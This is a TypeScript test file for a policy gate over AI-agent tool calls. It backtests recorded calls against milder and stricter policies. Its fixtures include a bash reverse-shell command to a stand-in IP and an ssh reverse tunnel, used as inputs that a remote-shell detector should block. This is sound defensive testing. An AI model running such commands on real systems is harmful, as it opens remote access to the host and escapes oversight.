import { readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import type { AgentAct, JudgedAct } from './act.ts'
import { agentDetectors } from './agent-gate.ts'
import { ann, call, TestRoad } from './agent-road.fixture.ts'
import { backtestLedger, backtestTrace } from './backtest.ts'
import { readAgentPolicy } from './decide/read-agent-policy.ts'

const policy = (name: string, change = (text: string) => text) =>
  readAgentPolicy(
    change(readFileSync(new URL(`../../policies/${name}.yaml`, import.meta.url), 'utf8')),
    name,
    agentDetectors,
  )
const reverse = (session = 's') =>
  call('run', { command: 'bash -i >& /dev/tcp/192.0.2.7/9001 0>&1' }, session)
const tunnel = () => call('run', { command: 'ssh -R 2222:localhost:22 me@example.com' })

test('a milder and a stricter policy show what they would change, for each tool and person', async () => {
  await using test = await TestRoad.open()
  await test.road.pass(ann, call('list_files', {}))
  await test.road.pass(ann, tunnel())
  await test.road.pass({ ...ann, person: undefined }, reverse())
  const milder = await backtestLedger(test.ledgerDirectory, policy('observe'))
  expect(milder).toMatchObject({
    ...{ policy: 'observe', acts: 3, sessions: 1, newlyStopped: 0, newlyAllowed: 2 },
    actions: { allow: 3, redact: 0, ask: 0, deny: 0 },
    tools: { run: { acts: 2, newlyAllowed: 2 }, list_files: { acts: 1, newlyAllowed: 0 } },
    people: { ann: { acts: 2, newlyAllowed: 1 }, coder: { acts: 1, newlyAllowed: 1 } },
    changes: [
      { tool: 'run', was: 'ask', now: 'allow' },
      { tool: 'run', was: 'deny', now: 'allow', rule: 'no-remote-shells' },
    ],
  })
  const stricter = await backtestLedger(test.ledgerDirectory, policy('strict'))
  expect(stricter).toMatchObject({ newlyStopped: 0, actions: { deny: 2 }, changesTotal: 1 })
})

test('the policy of the time changes nothing, observed or enforced', async () => {
  for (const mode of ['observe', 'enforce']) {
    await using test = await TestRoad.open({ mode })
    for (const act of [reverse(), tunnel(), call('list_files', {})]) await test.road.pass(ann, act)
    expect(await backtestLedger(test.ledgerDirectory, policy('balanced'))).toMatchObject({
      acts: 3,
      changesTotal: 0,
    })
  }
})

test('what a person approved counts as approved under another policy too', async () => {
  await using test = await TestRoad.open()
  const { ticket } = await test.road.pass(ann, tunnel())
  await test.road.approve(ticket?.id ?? '', { author: 'bea', reason: '' })
  await test.road.pass(ann, tunnel())
  expect(await backtestLedger(test.ledgerDirectory, policy('balanced'))).toMatchObject({
    acts: 2,
    changesTotal: 0,
  })
  expect(await backtestLedger(test.ledgerDirectory, policy('strict'))).toMatchObject({
    newlyStopped: 1,
    approvedStopped: 1,
  })
})

test('a detector that a policy switches off takes its facts with it', async () => {
  await using test = await TestRoad.open()
  await test.road.pass(ann, reverse())
  const without = policy('balanced', (text) => text.replace('  - remote-shell\n', ''))
  expect(await backtestLedger(test.ledgerDirectory, without)).toMatchObject({ newlyAllowed: 1 })
})

test('a trace runs through both policies whole', async () => {
  async function* acts(): AsyncGenerator<AgentAct> {
    const list: readonly JudgedAct[] = [reverse(), call('list_files', {}), tunnel()]
    yield* list
  }
  const report = await backtestTrace(acts(), { was: policy('observe'), now: policy('balanced') })
  expect(report).toMatchObject({
    acts: 3,
    newlyStopped: 2,
    actions: { allow: 1, ask: 1, deny: 1 },
    unseen: [],
  })
})
